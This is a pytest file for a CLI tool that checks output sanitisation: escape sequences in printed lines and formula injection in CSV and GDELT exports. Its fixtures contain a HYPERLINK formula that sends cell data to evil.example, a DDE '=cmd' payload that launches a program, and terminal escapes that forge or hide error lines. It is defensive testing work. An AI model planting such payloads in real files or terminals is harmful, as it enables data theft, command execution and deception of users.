"""Hostile text at the output: terminal escapes in printed lines, formulas in CSV/TSV cells."""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))

from dyad_factory import AQ, IRAN, date, doc, event  # noqa: E402
from frenemy.cli import main  # noqa: E402
from frenemy.models import Actor, Affiliation, DocumentResult, Sentence  # noqa: E402
from frenemy.store.db import Store  # noqa: E402
from frenemy.terminal import terminal_safe  # noqa: E402

ESC = "\x1b"
# what a hostile document would like a terminal to obey: clear screen, recolour, forge a line,
# move the cursor back (C1 CSI), reverse the text (bidi override)
HOSTILE = f"Wire{ESC}[2J{ESC}[31m\nE000 all good\r\x9b2J\u202eevil\x07"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


class _NoRegistry:
    def lookup(self, name: str) -> Actor | None:
        return None

    def actors(self) -> list[Actor]:
        return []


def _raw_controls(text: str) -> list[str]:
    """Control and bidi characters that would reach the terminal (newline and tab allowed)."""
    return [
        ch
        for ch in text
        if (ord(ch) < 32 and ch not in "\n\t") or 0x7F <= ord(ch) <= 0x9F or 0x202A <= ord(ch) <= 0x202E
    ]


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    db = tmp_path / "hostile.db"
    evil = Actor(
        id="evil-front",
        name=FORMULA_NAME,
        type="armed_group",
        code="@SUM(1+1)",
        aliases=["-2+3", HOSTILE],
        affiliations=[Affiliation(actor="iran", role="proxy", start="2001")],
    )
    document = doc("d1", publisher="+Wire", title=HOSTILE)
    document.text = "Iran attacked the front. Iran detained al-Qaeda couriers."
    ev1 = event(IRAN, evil, "190", -10.0, date("2005-03"), "d1", action="=cmd|' /C calc'!A0")
    ev1.sentence = HOSTILE + " Iran attacked the front."
    ev2 = event(IRAN, AQ, "173", -5.0, date("2003"), "d1", action="detained")
    with Store(db, registry=_NoRegistry()) as store:
        store.write_result(
            DocumentResult(
                document,
                [
                    Sentence("d1", 0, 0, 24, ev1.sentence),
                    Sentence("d1", 1, 25, 57, "Iran detained al-Qaeda couriers."),
                ],
                [],
                [ev1, ev2],
                [],
                [IRAN, AQ, evil],
            )
        )
        # mentions make the actors listable (actors() counts mentions)
        store.conn.executemany(
            "INSERT INTO mentions (doc_id, sentence_index, char_start, char_end, text, actor_id, kind) "
            "VALUES ('d1', 0, 0, 4, ?, ?, 'name')",
            [("Iran", "iran"), ("front", "evil-front"), ("al-Qaeda", "al-qaeda")],
        )
    return db


def call(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str, str]:
    capsys.readouterr()
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


# --- 1. terminal escapes -----------------------------------------------------------------------
def test_terminal_safe_shows_controls_and_keeps_text():
    assert terminal_safe(HOSTILE) == "Wire\\x1b[2J\\x1b[31m\\nE000 all good\\r\\x9b2J\\u202eevil\\x07"
    assert terminal_safe("Téhéran — 伊朗 «ok»\tx", keep_lines=True) == "Téhéran — 伊朗 «ok»\tx"
    assert _raw_controls(terminal_safe("".join(map(chr, range(0x100))) + "\u2066\u202d")) == []
    assert terminal_safe("a,b\r\nc\rd\n", keep_lines=True) == "a,b\r\nc\\rd\n"  # CRLF rows kept


def test_a_file_name_cannot_forge_or_hide_an_error_line(tmp_path: Path, capsys):
    name = str(tmp_path / f"x{ESC}[2K\rE000 fine\nreport.jsonl")
    code, _, err = call(capsys, "code", name)
    assert code == 1
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("E101 cannot read ")
    assert "\\x1b[2K\\rE000 fine\\nreport.jsonl" in lines[0] and _raw_controls(err) == []


def test_search_prints_a_hostile_title_inert(hostile_db: Path, capsys):
    code, out, _ = call(capsys, "search", "attacked", "--db", hostile_db)
    assert code == 0
    assert "\\x1b[2J" in out and "\\u202eevil" in out and "attacked" in out
    assert _raw_controls(out) == []


def test_search_json_keeps_the_value_but_escapes_c1_and_bidi(hostile_db: Path, capsys):
    import json

    code, out, _ = call(capsys, "search", "attacked", "--db", hostile_db, "--format", "json")
    assert code == 0 and _raw_controls(out) == []
    assert json.loads(out)[0]["title"] == HOSTILE  # the same string, escaped in JSON


@pytest.mark.parametrize("command", [["actors"], ["events"], ["events", "--dyad", "Iran", "evil-front"]])
def test_tables_and_listings_print_no_raw_controls(hostile_db: Path, capsys, command: list[str]):
    code, out, err = call(capsys, *command, "--db", hostile_db)
    assert code == 0
    assert _raw_controls(out) == [] and _raw_controls(err) == []


def test_table_cells_are_not_read_as_rich_markup(hostile_db: Path, capsys):
    with Store(hostile_db) as store:
        store.conn.execute(
            "UPDATE actors SET name = '[bold red]Fake[/bold red] front' WHERE id = 'evil-front'"
        )
    code, out, _ = call(capsys, "actors", "--db", hostile_db)
    assert code == 0 and "[bold red]Fake[/bold red]" in out


# --- 2. spreadsheet formulas -------------------------------------------------------------------
def test_events_csv_neutralises_formulas_and_keeps_numbers(hostile_db: Path, capsys):
    code, out, _ = call(capsys, "events", "--format", "csv", "--db", hostile_db)
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    attack = next(r for r in rows if r["cameo"] == "190")
    assert attack["target_name"] == "'" + FORMULA_NAME
    assert attack["action_text"].startswith("'=cmd")
    assert attack["goldstein"] == "-10.0" and float(attack["goldstein"]) == -10.0
    assert all(not v.startswith(("=", "+", "@")) for r in rows for v in r.values())


def test_actors_csv_lists_an_actor_with_affiliations(hostile_db: Path, capsys):
    code, out, _ = call(capsys, "actors", "--format", "csv", "--db", hostile_db)
    assert code == 0
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(out))}
    assert set(rows) == {"iran", "al-qaeda", "evil-front"}
    evil = rows["evil-front"]
    assert evil["name"] == "'" + FORMULA_NAME and evil["code"] == "'@SUM(1+1)"
    assert evil["aliases"].startswith("'-2+3|")  # the cell starts with the first alias
    assert FORMULA_NAME in evil["aliases"].split("|")  # later in a cell: not a formula
    assert rows["iran"]["code"] == "IRN"


@pytest.mark.parametrize("fmt", ["csv", "gdelt"])
def test_exports_neutralise_formulas_and_keep_goldstein_numeric(
    hostile_db: Path, tmp_path: Path, capsys, fmt
):
    out = tmp_path / f"events.{fmt}"
    code, _, _ = call(capsys, "export", "--format", fmt, "--out", out, "--db", hostile_db)
    assert code == 0
    text = out.read_text(encoding="utf-8")
    if fmt == "csv":
        rows = [list(r.values()) for r in csv.DictReader(io.StringIO(text))]
    else:
        rows = [line.split("\t") for line in text.splitlines()]
        assert all(len(r) == 61 for r in rows)
        goldstein = sorted(float(r[30]) for r in rows)
        assert goldstein == [-10.0, -5.0]
    cells = [c for r in rows for c in r]
    assert cells and not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()]
    assert any(c.startswith("'=") for c in cells)


def test_ingest_warnings_and_errors_name_hostile_files_on_one_line_each(tmp_path: Path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / f"w{ESC}[8m\nE000 hidden.xyz").write_text("not read", encoding="utf-8")  # W101: a type not read
    (folder / f"b\u202eevil\r{ESC}[1A.pdf").write_bytes(b"not a pdf at all")  # E1xx: unreadable
    code, _, err = call(capsys, "ingest", folder, "--db", tmp_path / "s.db", "--quiet")
    assert code == 1
    lines = err.strip().splitlines()
    assert any(line.startswith("W101 ") and "\\x1b[8m\\nE000 hidden.xyz" in line for line in lines), err
    assert any(line.startswith("E1") and "\\u202eevil\\r\\x1b[1A.pdf" in line for line in lines), err
    assert not any(line.startswith("E000") for line in lines)
    assert _raw_controls(err) == []


@pytest.mark.parametrize("command", [["dyad", "iran", "evil-front"], ["network"]])
def test_json_reports_escape_c1_and_bidi_but_keep_the_values(hostile_db: Path, capsys, command: list[str]):
    import json

    with Store(hostile_db) as store:  # a node name with every kind of control
        store.conn.execute("UPDATE actors SET name = ? WHERE id = 'al-qaeda'", (HOSTILE,))
    code, out, _ = call(capsys, *command, "--format", "json", "--db", hostile_db)
    assert code == 0 and _raw_controls(out) == []
    if command[0] == "dyad":
        sentences = [e["sentence"] for e in json.loads(out)["events"]]
        assert HOSTILE + " Iran attacked the front." in sentences
    else:
        assert HOSTILE in {n["name"] for n in json.loads(out)["nodes"]}
